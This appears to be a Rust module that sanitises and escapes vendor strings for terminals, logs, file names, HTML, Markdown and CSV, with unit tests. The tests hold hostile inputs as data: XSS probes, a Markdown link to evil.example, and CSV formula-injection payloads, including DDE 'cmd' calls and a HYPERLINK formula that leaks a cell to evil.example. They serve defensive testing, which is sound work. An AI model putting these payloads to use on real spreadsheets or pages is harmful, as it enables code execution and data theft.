//! Vendor strings on their way out: the one rule for characters that are never shown, and every escaping
//! (terminal and log text, file names, HTML, Markdown, CSV cells).
//!
//! Names, ids, labels and cells come from vendors and can carry terminal escape sequences, text-direction
//! tricks (a right-to-left override makes `gpj.exe` read as `exe.jpg`), invisible characters (two ids
//! that look the same but differ) or markup. Every function here applies [`is_unsafe_char`] first, then
//! the escaping of its output format.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

/// The unsafe-character rule: characters never shown from vendor strings (removed, or escaped where the
/// exact value matters), the union of what the terminal, log, notice and page writers each need:
///
/// * C0 controls U+0000–U+001F, DEL U+007F and C1 controls U+0080–U+009F (terminal escapes, line breaks);
/// * the bidirectional embeddings and overrides U+202A–U+202E and isolates U+2066–U+2069, the marks
///   U+200E (LRM), U+200F (RLM) and U+061C (Arabic letter mark) (Unicode Standard Annex #9);
/// * the zero-width space, non-joiner and joiner U+200B–U+200D and the zero-width no-break space or byte
///   order mark U+FEFF (invisible: two ids that read alike would differ);
/// * the line and paragraph separators U+2028 and U+2029 (line breaks to JavaScript and some viewers).
pub fn is_unsafe_char(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{061C}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}' | '\u{2029}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2066}'..='\u{2069}'
            | '\u{FEFF}')
}

/// Remove unsafe characters and cut to at most `max_chars` characters, the last of them `…` when the
/// string was cut.
pub(crate) fn sanitize_text(s: &str, max_chars: usize) -> String {
    let clean: Vec<char> = s.chars().filter(|c| !is_unsafe_char(*c)).collect();
    if clean.len() <= max_chars {
        clean.into_iter().collect()
    } else {
        let mut out: String = clean[..max_chars.saturating_sub(1)].iter().collect();
        out.push('…');
        out
    }
}

/// A vendor string for a terminal, a log line or a table: unsafe characters removed, cut to 121
/// characters (120 and an ellipsis when longer).
pub fn sanitize(s: &str) -> String {
    sanitize_text(s, 121)
}

/// A value quoted inside an error message, where the exact value matters: unsafe characters, `"` and `\`
/// become Rust-style escapes (`\u{1b}`, `\"`), cut to 80 characters and an ellipsis.
pub fn quote_for_message(s: &str) -> String {
    const MAX: usize = 80;
    let mut out = String::new();
    for (n, c) in s.chars().enumerate() {
        if n == MAX {
            out.push('…');
            break;
        }
        if is_unsafe_char(c) || c == '"' || c == '\\' {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// A vendor-supplied file name made printable, keeping what it was: invalid UTF-8 bytes as `\xNN`, unsafe
/// characters and `\` as `\u{...}`, cut to 255 characters and an ellipsis.
pub fn escape_name(name: &OsStr) -> String {
    let mut out = String::new();
    for chunk in name.as_bytes().utf8_chunks() {
        for c in chunk.valid().chars() {
            if is_unsafe_char(c) || c == '\\' {
                out.push_str(&c.escape_unicode().to_string());
            } else {
                out.push(c);
            }
        }
        for b in chunk.invalid() {
            out.push_str(&format!("\\x{b:02x}"));
        }
    }
    if out.chars().count() > 255 {
        out = out.chars().take(255).collect::<String>() + "…";
    }
    out
}

/// Text for HTML element content and quoted attribute values: sanitised (200 characters), then `&`, `<`,
/// `>`, `"` and `'` as character references (OWASP Cross Site Scripting Prevention Cheat Sheet, output
/// encoding for HTML contexts).
pub fn html_escape(s: &str) -> String {
    html_escape_up_to(s, 200)
}

/// [`html_escape`] with the sanitiser's length cap given by the caller (labelweir's own sentences are never
/// cut).
pub(crate) fn html_escape_up_to(s: &str, max_chars: usize) -> String {
    let clean = sanitize_text(s, max_chars);
    let mut out = String::with_capacity(clean.len());
    for c in clean.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Literal Markdown text: sanitised to `max_chars`, then a backslash before every ASCII punctuation
/// character (CommonMark allows one before any ASCII punctuation; `\|` also keeps a GFM table cell whole).
pub fn markdown_escape(s: &str, max_chars: usize) -> String {
    let clean = sanitize_text(s, max_chars);
    let mut out = String::with_capacity(clean.len() + 8);
    for c in clean.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// One CSV cell neutralised for spreadsheets, per OWASP's "CSV Injection" guidance: a cell whose first
/// character — also after leading spaces — is `=`, `+`, `-`, `@`, tab, CR, LF or NUL gets a leading `'`
/// so a spreadsheet shows it as text instead of evaluating it. Quoting and doubling embedded quotes is
/// the CSV writer's job: always write with `QuoteStyle::Always`.
pub fn csv_cell(s: &str) -> String {
    let first = s.chars().find(|c| *c != ' ' && *c != '\u{A0}');
    match first {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0') => format!("'{s}"),
        _ => s.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rule_covers_every_listed_character_and_spares_plain_text() {
        let listed = [
            '\u{0}', '\u{1b}', '\n', '\u{7f}', '\u{85}', '\u{9f}', '\u{061C}', '\u{200B}',
            '\u{200C}', '\u{200D}', '\u{200E}', '\u{200F}', '\u{2028}', '\u{2029}', '\u{202A}',
            '\u{202E}', '\u{2066}', '\u{2069}', '\u{FEFF}',
        ];
        for c in listed {
            assert!(is_unsafe_char(c), "U+{:04X}", c as u32);
        }
        for c in [
            'a', 'Z', ' ', 'é', 'ß', '\u{A0}', '\u{2010}', '\u{2030}', '\u{206A}', '…',
        ] {
            assert!(!is_unsafe_char(c), "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn sanitize_caps_length_and_strips_every_unsafe_character() {
        let s = format!(
            "a\u{0}b\u{1b}[31mc\u{85}d\u{2067}e\u{200B}\u{FEFF}\u{2028}{}",
            "x".repeat(300)
        );
        let t = sanitize_text(&s, 10);
        assert_eq!(t.chars().count(), 10);
        assert!(t.ends_with('…'));
        assert!(t.starts_with("ab[31mcde"));
        assert!(!t.chars().any(is_unsafe_char));
        assert_eq!(sanitize("a\u{1b}[2Jb\u{202E}c\nd"), "a[2Jbcd");
        assert_eq!(sanitize(&"x".repeat(500)).chars().count(), 121);
        assert_eq!(sanitize(&"x".repeat(121)), "x".repeat(121));
    }

    #[test]
    fn messages_show_unsafe_characters_as_escapes() {
        assert_eq!(
            quote_for_message("a\u{1b}\"\\\u{200B}b"),
            "a\\u{1b}\\\"\\\\\\u{200b}b"
        );
        assert_eq!(quote_for_message(&"y".repeat(90)).chars().count(), 81);
    }

    #[test]
    fn names_keep_their_bytes_as_escapes() {
        use std::os::unix::ffi::OsStringExt;
        let bad = std::ffi::OsString::from_vec(vec![b'a', 0xff, b'.', b'c', b's', b'v']);
        assert_eq!(escape_name(&bad), "a\\xff.csv");
        assert_eq!(
            escape_name(OsStr::new("x\u{202E}vsc.exe\u{2028}\\")),
            "x\\u{202e}vsc.exe\\u{2028}\\u{5c}"
        );
        assert_eq!(
            escape_name(OsStr::new("week 12 batch.csv")),
            "week 12 batch.csv"
        );
        assert_eq!(
            escape_name(OsStr::new(&"n".repeat(300))).chars().count(),
            256
        );
    }

    // OWASP Cross Site Scripting Prevention Cheat Sheet (cheatsheetseries.owasp.org), "Output Encoding for
    // HTML Contexts": `&` → `&amp;`, `<` → `&lt;`, `>` → `&gt;`, `"` → `&quot;`, `'` → `&#x27;` (we write the
    // decimal `&#39;`, the same character reference). The attack strings are common XSS probes (from
    // memory, common practice).
    #[test]
    fn html_escape_follows_the_owasp_output_encoding() {
        assert_eq!(html_escape("& < > \" '"), "&amp; &lt; &gt; &quot; &#39;");
        assert_eq!(
            html_escape("<img src=x onerror=alert(1)>\u{202E}&\"'"),
            "&lt;img src=x onerror=alert(1)&gt;&amp;&quot;&#39;"
        );
        assert_eq!(
            html_escape("\"><script>alert('x')</script>"),
            "&quot;&gt;&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"
        );
        // Already-escaped input is escaped again, never passed through as markup.
        assert_eq!(html_escape("&lt;b&gt;"), "&amp;lt;b&amp;gt;");
    }

    #[test]
    fn markdown_escape_makes_syntax_literal() {
        assert_eq!(
            markdown_escape("[click](http://evil.example) | *x*", 200),
            "\\[click\\]\\(http\\:\\/\\/evil\\.example\\) \\| \\*x\\*"
        );
        assert_eq!(markdown_escape("<script>\u{202E}", 200), "\\<script\\>");
        assert_eq!(markdown_escape("line\n# heading", 200), "line\\# heading");
    }

    // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with `=`,
    // `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) are read as formulas; the mitigation is to wrap
    // every cell in double quotes, prepend a single quote, and double embedded double quotes. The attack
    // strings below are the page's examples as we remember them (from memory; the `\0` trigger is from
    // OWASP ASVS requirement 1.2.10). The quoting half is checked on a whole notice in `notice::tests`.
    #[test]
    fn csv_cells_neutralise_owasp_examples() {
        for attack in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click here\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "\0=1+2",
            "   =1+2", // after leading whitespace
        ] {
            let cell = csv_cell(attack);
            assert!(cell.starts_with('\''), "{attack:?} → {cell:?}");
            assert_eq!(&cell[1..], attack, "content kept verbatim after the quote");
        }
        for benign in ["item-7", "PET", "0.5", "", "a=b", "'quoted"] {
            assert_eq!(csv_cell(benign), benign);
        }
    }
}
